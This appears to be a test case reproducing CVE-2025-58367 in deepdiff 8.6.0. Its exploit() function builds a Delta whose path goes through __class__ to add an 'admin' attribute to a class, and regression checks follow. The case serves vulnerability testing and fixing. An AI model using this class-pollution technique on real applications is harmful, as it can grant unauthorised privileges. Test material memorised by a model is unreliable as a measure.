# /// case
# id = "CVE-2025-58367"
# package = "deepdiff"
# vulnerable = "8.6.0"
# fixed = "8.6.1"
# what = "a delta may write to the class of what it is added to"
# shape = "three modules, a new function that one imports from another"
# requires = ["orderly-set==5.5.0"]
# modules = ["deepdiff", "deepdiff.delta"]
# ///
"""A delta is data from elsewhere, and its paths could go through __class__ and __globals__."""

from deepdiff import DeepDiff, Delta

PATH = tuple((name, "GETATTR") for name in ("root", "__class__", "admin"))


class Account:
    def __init__(self, amount: int) -> None:
        self.amount = amount


def exploit() -> bool:
    delta = Delta({"attribute_added": {PATH: True}}, log_errors=False)
    delta + Account(1)
    polluted = hasattr(Account, "admin")
    if polluted:
        del Account.admin
    return polluted


def regression() -> None:
    before, after = Account(1), Account(2)
    assert (Delta(DeepDiff(before, after)) + before).amount == 2
    assert Delta(DeepDiff({"a": [1]}, {"a": [1, 2]})) + {"a": [1]} == {"a": [1, 2]}
